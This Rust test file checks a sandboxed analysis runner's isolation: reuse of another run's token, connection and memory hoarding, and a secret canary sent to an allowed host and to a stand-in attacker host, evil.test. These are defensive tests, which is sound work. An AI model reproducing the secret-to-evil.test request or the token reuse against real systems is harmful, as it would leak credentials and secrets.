//! Guests that reach for what is not theirs: the token of another run, all connections, the memory
//! of the host; and one that tells a host what it may read, which nothing stops.

use std::net::IpAddr;

use runner::host::Host;
use serde_json::{Value, json};

use super::scene::Scene;
use crate::egress;
use crate::harness::{sample_bytes, text};
use crate::network::servers;
use crate::starts::wait_for;

/// How many connections a run may have here.
const CONNECTIONS: usize = 4;

/// What the host may hold for requests that one run has not sent, in KiB.
const HOARD: u64 = 512 << 10;

/// The secret that an analysis reads and gives away.
const CANARY: &str = "c4nary of seven letters";
const TAG: (&str, &str) = ("team", "canary");

/// The cases for people: the name, and what is asserted.
pub fn table() -> impl Iterator<Item = (String, String)> {
    [
        (
            "token of a run that is over, from a scope",
            "refused with `unauthenticated`, inside of a run and outside",
        ),
        (
            "token of another run that is under way",
            "refused with `unauthenticated`, inside of a run and outside",
        ),
        (
            "50 connections that are never let go",
            "4 are made, which is its limit; its neighbour has its own, and so has the next run",
        ),
        (
            "requests without end that are never sent",
            "fault `trap`: “table”; the host holds less than 512 MiB for them",
        ),
        (
            "canary: sent to a host that a policy allows",
            "arrives as it is, and is in no leak report: a request is no sink",
        ),
        ("canary: sent to any other host", "refused; nothing arrives"),
    ]
    .map(|(name, asserted)| (name.to_owned(), asserted.to_owned()))
    .into_iter()
}

/// A house whose guests may be let to servers on this machine, and an analysis that does what its
/// scope lists.
async fn scene() -> (Scene, String) {
    let scene = Scene::with(|settings| {
        let loopback = IpAddr::from([127, 0, 0, 1]);
        settings.outbound.private_ranges = vec!["127.0.0.1".parse().expect("a range")];
        let name = |name: &str| (Host::parse(name).expect("a name"), loopback);
        settings.outbound.hosts = ["api.test", "evil.test"].map(name).into();
    });
    let scene = scene.await;
    let id = scene.api.analysis("caller", &sample_bytes("caller")).await;
    (scene, id)
}

/// Lets an analysis to this host.
async fn allow(scene: &Scene, id: &str, host: &str) {
    let permission = json!({
        "effect": "allow", "action": ["access"], "resource": ["network", "host", host],
    });
    let policy = json!({
        "name": format!("to {host}"),
        "targets": [["analysis", "id", id]],
        "permissions": [permission],
    });
    scene.api.post("/am", policy).await.ok();
}

fn asks_as(token: &str) -> Value {
    json!({"request": {"url": "http://runner.internal/info", "headers": {"token": token}}})
}

#[tokio::test]
async fn the_token_of_another_run_opens_nothing_whether_it_is_over_or_under_way() {
    let (scene, id) = scene().await;
    let steps = json!([{"reveal": null}, {"sleep": 3_600_000}]);
    let path = format!("/analysis/{id}/run");
    let started = scene.api.post(&path, json!({"scope": steps})).await.ok();
    let victim = text(&started["run"]);
    let console = format!("/runs/{victim}/console");
    let line = wait_for("the token", async || {
        let lines = scene.api.get(&console).await.ok();
        lines.get(0).map(|line| text(&line["text"]))
    });
    let token: String = line.await.chars().rev().collect();
    for over in [false, true] {
        if over {
            scene.api.post(&format!("/runs/{victim}/cancel?wait=50"), Value::Null).await.ok();
        }
        // Its own token still does.
        let run = scene.run(&id, json!([asks_as(&token), asks_as("$TOKEN")])).await;
        let answers = &run["result"];
        assert_eq!((&answers[0]["status"], &answers[1]["status"]), (&json!(401), &json!(200)));
        assert!(text(&answers[0]["body"]).contains("Invalid token"), "over: {over}: {run}");
        let outside = scene.api.call_as(&token, axum::http::Method::GET, "/info", Value::Null);
        assert_eq!(outside.await.refused(401).0, "unauthenticated", "over: {over}");
    }
}

#[tokio::test]
async fn a_guest_that_hoards_connections_has_its_own_and_takes_nobody_elses() {
    let (scene, _) = scene().await;
    let limits = json!({"outbound_connections": CONNECTIONS, "wall_time_ms": 5_000});
    let id = scene.analysis("fetcher", &limits).await;
    scene.api.upload(&id, &sample_bytes("fetch")).await.ok();
    let slow = servers::Server::plain("HTTP/1.1 200 OK\r\ncontent-length: 9\r\n\r\nx").await;
    let quick = servers::Server::plain(servers::ok("x")).await;
    let at = |server: &servers::Server| format!("api.test:{}", server.port);
    for server in [&slow, &quick] {
        allow(&scene, &id, &format!("http://{}", at(server))).await;
    }
    let ask = |server, times| json!({"scheme": "http", "authority": at(server), "times": times});
    let scope = json!({"requests": [ask(&slow, 50)], "together": true, "hold": true});
    let path = format!("/analysis/{id}/run");
    let greedy = text(&scene.api.post(&path, json!({"scope": scope})).await.ok()["run"]);
    wait_for("its connections", async || (slow.accepted() == CONNECTIONS).then_some(())).await;
    // Meanwhile another run has all of its own.
    let all = json!({"requests": [ask(&quick, CONNECTIONS)], "together": true});
    let run = scene.run(&id, all.clone()).await;
    assert_eq!(run["state"], "succeeded", "{run}");
    let answered =
        |run: &Value| text(&run["console"][0]["text"]).matches(r#""status":200"#).count();
    assert_eq!(answered(&run), CONNECTIONS, "{run}");
    let ended = scene.api.get(&format!("/runs/{greedy}?wait=50")).await.ok();
    assert_eq!(ended["fault"]["code"], "time_limit", "{ended}");
    assert_eq!(slow.accepted(), CONNECTIONS);
    let run = scene.run(&id, all).await;
    assert_eq!(answered(&run), CONNECTIONS, "{run}");
}

/// The most memory that this process had so far, in KiB.
fn peak() -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").expect("the status of this process");
    let line = status.lines().find_map(|line| line.strip_prefix("VmHWM:"));
    let number = line.and_then(|line| line.split_whitespace().next());
    number.and_then(|number| number.parse().ok()).expect("a number")
}

#[tokio::test]
async fn requests_that_are_never_sent_do_not_fill_the_host() {
    let (scene, id) = scene().await;
    let before = peak();
    let run = scene.run(&id, json!(["hoard"])).await;
    assert_eq!((&run["state"], &run["fault"]["code"]), (&json!("failed"), &json!("trap")), "{run}");
    assert!(text(&run["fault"]["message"]).contains("table"), "{run}");
    let grown = peak() - before;
    assert!(grown < HOARD, "the host held {grown} KiB");
}

#[tokio::test]
async fn a_canary_goes_to_the_hosts_that_policies_allow_and_to_no_other() {
    let (scene, id) = scene().await;
    let server = egress::server::Server::new().await;
    let (host, other) =
        (format!("api.test:{}", server.plain_port), format!("evil.test:{}", server.plain_port));
    scene.api.secret("CANARY", CANARY, TAG).await;
    scene.api.grant(&id, "allow", TAG).await;
    allow(&scene, &id, &format!("http://{host}")).await;
    let sends = |host: &str| {
        json!({"request": {
            "url": format!("http://{host}/?is"),
            "method": "POST",
            "headers": {"token": "", "x-canary": "$ENV_CANARY"},
            "body": "it is $ENV_CANARY",
        }})
    };
    let run = scene.run(&id, json!([sends(&host), sends(&other)])).await;
    let arrived = server.arrived();
    assert_eq!(arrived.len(), 1, "{arrived:?}");
    assert_eq!(arrived[0].header("x-canary"), Some(CANARY));
    assert_eq!(arrived[0].body, format!("it is {CANARY}"));
    assert_eq!(run["result"][0]["status"], 200, "{run}");
    assert!(text(&run["result"][1]["error"]).contains("no policy allows"), "{run}");
    // What the host said of it comes back as a result, and that is a sink.
    let leaks = run["leaks"].as_array().expect("a report");
    assert!(leaks.iter().all(|leak| leak["sink"] == "result"), "{leaks:?}");
    assert!(!leaks.is_empty() && !run.to_string().contains(CANARY), "{run}");
}
